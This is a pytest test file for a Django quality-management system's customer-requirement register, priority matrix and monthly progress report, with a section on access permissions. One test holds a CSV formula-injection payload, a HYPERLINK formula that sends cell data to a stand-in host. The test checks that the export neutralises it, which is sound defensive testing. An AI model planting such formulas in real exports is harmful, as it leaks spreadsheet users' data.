"""P5's browser pages beside its flow (issue 16, CR-7, PM-1, 制度 七): the requirement register (filters,
sort, pagination, CSV — the same rows as GET /api/requirements/), the priority matrix (cells, who may
change the thresholds), the periodic progress report (figures computed by hand; page, API, CSV and the
monthly job agree), who may see them, and the register's query count."""
import csv
import datetime
import io
import re

import pytest
from api_driver import client_for
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from evidence_support import make_auditor
from flow_driver import act, start
from test_p5_requirements import FLOW, analysis_data, approve, collect_data, req_of, to_approval

from accounts.models import User
from core.models import AuditEntry
from inbox.models import Notification
from procedures.requirements import views
from procedures.requirements.models import CustomerRequirement, PriorityMatrix
from procedures.requirements.report import previous_month
from procedures.requirements.tasks import send_progress_report
from workflows.demo import DEMO_PASSWORD

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

TODAY = timezone.localdate()
REGISTER, MATRIX, REPORT = "/qms/requirements/", "/qms/requirements/priority-matrix/", "/qms/requirements/report/"


def web(username, password=DEMO_PASSWORD):
    client = Client()
    assert client.post("/accounts/login/", {"username": username, "password": password}).status_code == 302
    return client


def page_numbers(client, query=""):
    response = client.get(f"{REGISTER}{query}")
    assert response.status_code == 200, response.content[:500]
    return re.findall(r'<tr id="requirement-(CR-[0-9-]+)"', response.content.decode())


def all_page_numbers(client, query=""):
    numbers, page = [], 1
    while True:
        sep = "&" if query else "?"
        found = page_numbers(client, f"{query}{sep}page={page}" if page > 1 else query)
        numbers += found
        if not found or page >= 20:
            return numbers
        body = client.get(f"{REGISTER}{query}{sep}page={page}").content.decode()
        if 'rel="next"' not in body:
            return numbers
        page += 1


def api_numbers(api, query=""):
    response = api.get(f"/api/requirements/{query}")
    assert response.status_code == 200, response.content
    return [row["number"] for row in response.json()["results"]]


def csv_rows(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv") and "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def csv_numbers(client, query=""):
    return [row[0] for row in csv_rows(client, f"{REGISTER}register.csv{query}")[1:]]


@pytest.fixture
def register(people):
    """a: approved, class A, overdue; b: C002 statutory, registered; c: a potential customer, registered."""
    a = to_approval(people)
    approve(a, people)
    b = start(FLOW, "start", people["market"], collect_data(customer="C002", requirement_type="statutory",
                                                            received_on=(TODAY - datetime.timedelta(20)).isoformat()))
    c = start(FLOW, "start", people["market"], collect_data(customer="", customer_name="展会客户 Expo Visitor",
                                                            channel="exhibition"))
    CustomerRequirement.objects.filter(record__process=a).update(due_date=TODAY - datetime.timedelta(1))
    return {name: req_of(p).record.number for name, p in (("a", a), ("b", b), ("c", c))}


# --- the register ---------------------------------------------------------------------------------------------


def test_the_register_page_the_api_and_the_csv_list_the_same_rows_for_every_filter(people, register):
    page, api = web("quality_mgr"), client_for("quality_mgr")
    na, nb, nc = register["a"], register["b"], register["c"]
    since = (TODAY - datetime.timedelta(5)).isoformat()
    cases = {"": [nc, nb, na], "?customer=C002": [nb], "?customer=Expo": [nc], "?type=statutory": [nb],
             "?priority=A": [na], "?kano=O": [na], "?status=approved": [na], "?overdue=1": [na],
             "?overdue=0": [nc, nb], f"?received_from={since}": [nc, na], f"?received_to={since}": [nb],
             "?q=expo": [nc], f"?q={nb}": [nb], "?customer=C001&status=registered": [],
             "?sort=due": [na, nc, nb], "?sort=priority": [na, nc, nb], "?sort=received": [nb, na, nc]}
    for query, expected in cases.items():
        assert page_numbers(page, query) == expected, query
        assert api_numbers(api, query) == expected, query
        assert csv_numbers(page, query) == expected, query


def test_the_register_csv_writes_no_formula_a_spreadsheet_would_run(people):
    """A customer's words beginning with "=" (or "+", "-", "@") are written after an apostrophe: shown, never run."""
    words = '=HYPERLINK("http://example.invalid/?"&A1,"更多 more")'
    start(FLOW, "start", people["market"], collect_data(customer_words=words))
    start(FLOW, "start", people["market"], collect_data(customer_words="-5"))
    rows = csv_rows(web("quality_mgr"), f"{REGISTER}register.csv")
    column = rows[0].index("The customer's words")
    assert sorted(row[column] for row in rows[1:]) == ["'" + words, "-5"]  # a plain number stays a number


def test_the_register_pages_and_always_shows_the_total(people, register, monkeypatch):
    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    page = web("market")
    body = page.get(REGISTER).content.decode()
    assert "3 requirements" in body and "page 1 of 2" in body and 'rel="next"' in body
    first, second = page_numbers(page), page_numbers(page, "?page=2")
    assert (len(first), len(second)) == (2, 1)
    assert first + second == api_numbers(client_for("market")) == csv_numbers(page)  # the CSV: every page


def test_overdue_rows_carry_the_badge_and_bad_filters_are_refused_without_rows(people, register):
    page = web("market")
    body = page.get(f"{REGISTER}?overdue=1").content.decode()
    row = re.search(rf'<tr id="requirement-{register["a"]}">.*?</tr>', body, re.S).group(0)
    assert "Overdue" in row and (TODAY - datetime.timedelta(1)).isoformat() in row
    for bad in ("?status=lost", "?type=wish", "?priority=E", "?kano=X", "?overdue=maybe", "?received_from=2026-13-01",
                "?sort=colour"):
        response = page.get(f"{REGISTER}{bad}")
        assert response.status_code == 400 and 'id="register-errors"' in response.content.decode(), bad
        assert not re.findall(r'<tr id="requirement-', response.content.decode()), bad
        assert client_for("market").get(f"/api/requirements/{bad}").status_code == 400, bad
        assert page.get(f"{REGISTER}register.csv{bad}").status_code == 400, bad


def test_only_market_staff_see_the_register_button(people, register):
    start_url = "/qms/flows/requirement/start/"
    assert start_url in web("market").get(REGISTER).content.decode()
    assert start_url in web("market_mgr").get(REGISTER).content.decode()
    assert start_url not in web("quality").get(REGISTER).content.decode()


def test_the_register_page_costs_the_same_queries_for_one_row_or_many(people, django_assert_num_queries):
    page = web("market")
    start(FLOW, "start", people["market"], collect_data())
    with CaptureQueriesContext(connection) as one:
        assert len(page_numbers(page)) == 1
    for n in range(4):
        process = start(FLOW, "start", people["market"], collect_data(customer="C002" if n % 2 else "C001"))
        if n == 0:
            act(process, "analyse", people["market"], analysis_data(), meaning="authored")
    with django_assert_num_queries(len(one.captured_queries)):
        assert len(page_numbers(page)) == 5


# --- the priority matrix ----------------------------------------------------------------------------------------


def test_the_matrix_places_each_open_requirement_in_its_cell_with_the_class_of_the_thresholds(people):
    open_one = to_approval(people)  # 4 × 4, awaiting approval
    low = start(FLOW, "start", people["market"], collect_data())
    act(low, "analyse", people["market"], analysis_data(importance=2, urgency=1), meaning="authored")
    closed = to_approval(people)
    act(closed, "approve", people["market_mgr"], {"conclusion": "不做 no"}, meaning="rejected", reason="no")
    unscored = start(FLOW, "start", people["market"], collect_data())
    n_open, n_low, n_closed, n_unscored = (req_of(p).record.number for p in (open_one, low, closed, unscored))

    def cell(body, importance, urgency):
        return re.search(rf'<td class="[^"]*" id="cell-{importance}-{urgency}" data-class="(\w)" '
                         rf'data-count="(\d+)">(.*?)</td>', body, re.S).groups()

    body = web("market").get(MATRIX).content.decode()
    klass, count, inner = cell(body, 4, 4)
    assert (klass, count) == ("A", "1") and f'/qms/records/{n_open}/' in inner
    klass, count, inner = cell(body, 2, 1)
    assert (klass, count) == ("D", "1") and n_low in inner  # 2 < 4: class D
    assert cell(body, 5, 5)[:2] == ("A", "0") and cell(body, 3, 3)[:2] == ("B", "0") and cell(body, 2, 2)[0] == "C"
    assert n_closed not in body and n_unscored not in body
    assert "2 open requirements placed" in body
    assert 'id="matrix-form"' not in body and "<svg" in body  # the printable chart (forms.charts)

    manager = web("market_mgr")
    assert 'id="matrix-form"' in manager.get(MATRIX).content.decode()
    assert 'id="matrix-form"' in web("gm").get(MATRIX).content.decode()
    response = manager.post(MATRIX, {"a_min": 20, "b_min": 10, "c_min": 2, "reason": "年度评审 annual review"})
    assert response.status_code == 302
    assert PriorityMatrix.current().as_data() == {"a_min": 20, "b_min": 10, "c_min": 2}
    entry = AuditEntry.objects.filter(action="requirement.priority_matrix_changed").get()
    assert entry.reason == "年度评审 annual review" and entry.actor == people["market_mgr"]
    body = manager.get(MATRIX).content.decode()
    assert cell(body, 4, 4)[0] == "B" and cell(body, 2, 1)[0] == "C"  # 16 < 20; 2 ≥ 2
    assert req_of(open_one).priority == "A"  # the class given at the analysis stays


def test_only_the_matrix_managers_change_it_and_bad_thresholds_are_answered_at_the_field(people):
    for username in ("market", "quality_mgr", "engineering"):
        response = web(username).post(MATRIX, {"a_min": 20, "b_min": 10, "c_min": 2, "reason": "x"})
        assert response.status_code == 403, username
    manager = web("market_mgr")
    response = manager.post(MATRIX, {"a_min": 8, "b_min": 10, "c_min": 2, "reason": "x"})
    assert response.status_code == 400
    assert re.search(r'id="id_a_min"', response.content.decode())
    assert "class C &lt; class B &lt; class A" in response.content.decode() or \
        "class C < class B < class A" in response.content.decode()
    assert manager.post(MATRIX, {"a_min": 20, "b_min": 10, "c_min": 2, "reason": ""}).status_code == 400
    assert manager.post(MATRIX, {"a_min": 30, "b_min": 10, "c_min": 2, "reason": "x"}).status_code == 400
    assert PriorityMatrix.current().as_data() == {"a_min": 15, "b_min": 9, "c_min": 4}
    assert not AuditEntry.objects.filter(action="requirement.priority_matrix_changed").exists()


# --- the progress report -------------------------------------------------------------------------------------------


def at(day):
    return timezone.make_aware(datetime.datetime.combine(day, datetime.time(12)))


@pytest.fixture
def period_data(people):
    """A hand-built month (the previous one): what happened when, set on the working rows."""
    p0, p1 = previous_month(TODAY)

    def d(n):
        return p0 + datetime.timedelta(days=n)

    def dates(process, **values):
        CustomerRequirement.objects.filter(record__process=process).update(
            **{k: at(v) if k.endswith("_at") and v else v for k, v in values.items()})

    r1 = to_approval(people)  # registered d1, approved d3, completed d10
    approve(r1, people)
    act(r1, "track", people["engineering"], {"outcome": "implemented", "progress": "done"})
    act(r1, "evaluate", people["market2"], {"fulfilment": "met", "evidence": "photo", "answer_date": TODAY.isoformat(),
                                            "answer_channel": "email", "answer_content": "done"}, meaning="verified")
    dates(r1, created_at=d(1), decided_at=d(3), closed_at=d(10))
    r2 = to_approval(people)  # registered d2, approved d6, due d8: overdue at the month's end
    approve(r2, people)
    dates(r2, created_at=d(2), decided_at=d(6), due_date=d(8))
    r3 = to_approval(people, customer="C002")  # registered d4, rejected d5
    act(r3, "approve", people["market_mgr"], {"conclusion": "不做 no"}, meaning="rejected", reason="no")
    dates(r3, created_at=d(4), decided_at=d(5), closed_at=d(5))
    r4 = to_approval(people)  # registered and approved before the month, withdrawn d12
    approve(r4, people)
    act(r4, "track", people["engineering"], {"outcome": "withdrawn", "progress": "customer withdrew"})
    dates(r4, created_at=d(-5), decided_at=d(-2), due_date=d(20), closed_at=d(12))
    r5 = start(FLOW, "start", people["market"], collect_data(customer="", customer_name="Expo Visitor",
                                                            requirement_type="implied"))
    dates(r5, created_at=d(6))  # registered d6, not analysed yet: open
    r6 = start(FLOW, "start", people["market"], collect_data(duplicate_of=req_of(r5).record.number))
    dates(r6, created_at=d(7), closed_at=d(7))  # a linked duplicate
    r7 = start(FLOW, "start", people["market"], collect_data())
    dates(r7, created_at=p1 + datetime.timedelta(days=1))  # after the month: not in it
    return {"from": p0, "to": p1, "r2": req_of(r2).record.number, "overdue_days": (p1 - d(8)).days}


EXPECTED = {"registered": 4, "approved": 2, "rejected": 1, "completed": 1, "withdrawn": 1, "duplicates": 1, "open": 2,
            "overdue": 1,
            # registered → approved: r1 2 days, r2 4 days; approved → completed: r1 7 days
            "average_days_registered_to_approved": 3.0, "average_days_approved_to_completed": 7.0}


def test_the_report_figures_of_a_hand_built_month(people, period_data):
    query = f"?from={period_data['from'].isoformat()}&to={period_data['to'].isoformat()}"
    body = client_for("market").get(f"/api/requirements/report/{query}")
    assert body.status_code == 200, body.content
    data = body.json()
    assert {k: data[k] for k in EXPECTED} == EXPECTED
    assert {g["key"]: (g["registered"], g["open"]) for g in data["by_priority"]} == {"A": (3, 1), "": (1, 1)}
    assert {g["key"]: (g["registered"], g["open"]) for g in data["by_type"]} == {"explicit": (3, 1),
                                                                                  "implied": (1, 1)}
    assert [(g["key"], g["registered"], g["open"]) for g in data["by_customer"]] == [
        ("C001", 2, 1), ("", 1, 1), ("C002", 1, 0)]
    assert [(r["number"], r["days_overdue"], r["owner"]) for r in data["overdue_requirements"]] == [
        (period_data["r2"], period_data["overdue_days"], "杨磊 Yang Lei")]

    page = web("market").get(f"{REPORT}{query}").content.decode()
    for key, value in (("registered", 4), ("approved", 2), ("open", 2), ("overdue", 1), ("days_to_approval", "3.0")):
        assert re.search(rf'id="figure-{key}"><span class="qms-figure__value">{value}<', page), key
    assert period_data["r2"] in page

    rows = csv_rows(web("market"), f"/qms/requirements/report.csv{query}")
    flat = {row[0]: row[1] for row in rows if len(row) >= 2}
    assert flat["Registered"] == "4" and flat["Average days from registration to approval"] == "3.0"
    assert any(row and row[0] == period_data["r2"] for row in rows)


def test_the_report_period_defaults_to_this_month_and_refuses_a_reversed_one(people):
    data = client_for("market").get("/api/requirements/report/").json()
    assert data["from"] == TODAY.replace(day=1).isoformat() and data["to"][:7] == TODAY.isoformat()[:7]
    assert client_for("market").get("/api/requirements/report/?from=2026-05-01&to=2026-04-01").status_code == 400
    assert client_for("market").get("/api/requirements/report/?from=May").status_code == 400
    assert web("market").get(f"{REPORT}?from=2026-05-01&to=2026-04-01").status_code == 400


def test_the_monthly_job_notifies_the_market_managers_once(people, period_data):
    day_after = (period_data["to"] + datetime.timedelta(days=1)).isoformat()
    assert send_progress_report(today=day_after) == 1
    (note,) = Notification.objects.filter(recipient=people["market_mgr"])
    assert period_data["from"].isoformat() in note.title and "4" in note.body
    assert f"from={period_data['from'].isoformat()}" in note.link
    assert send_progress_report(today=day_after) == 0  # idempotent: the period is already reported
    assert Notification.objects.filter(recipient=people["market_mgr"]).count() == 1
    entry = AuditEntry.objects.get(action="requirement.progress_report_sent")
    assert entry.new_values["registered"] == 4 and entry.new_values["to_users"] == ["market_mgr"]


# --- who may see -------------------------------------------------------------------------------------------------


def test_auditors_read_and_users_without_access_are_refused(people, register):
    from evidence_support import AUDITOR_PASSWORD

    make_auditor(people)
    auditor = web("auditor", AUDITOR_PASSWORD)
    for url in (REGISTER, MATRIX, REPORT, f"{REGISTER}register.csv", "/qms/requirements/report.csv"):
        assert auditor.get(url).status_code == 200, url
    assert 'id="matrix-form"' not in auditor.get(MATRIX).content.decode()
    assert "/qms/flows/requirement/start/" not in auditor.get(REGISTER).content.decode()
    assert auditor.post(MATRIX, {"a_min": 20, "b_min": 10, "c_min": 2, "reason": "x"}).status_code in (403, 405)
    assert PriorityMatrix.current().a_min == 15

    User.objects.create_user("nobody", password=DEMO_PASSWORD, display_name="No One")
    nobody = web("nobody")
    for url in (REGISTER, MATRIX, REPORT, f"{REGISTER}register.csv", "/qms/requirements/report.csv"):
        assert nobody.get(url).status_code == 403, url
    api = client_for("nobody")
    assert api.get("/api/requirements/report/").status_code == 403
    assert api.get("/api/requirements/priority-matrix/").status_code == 403
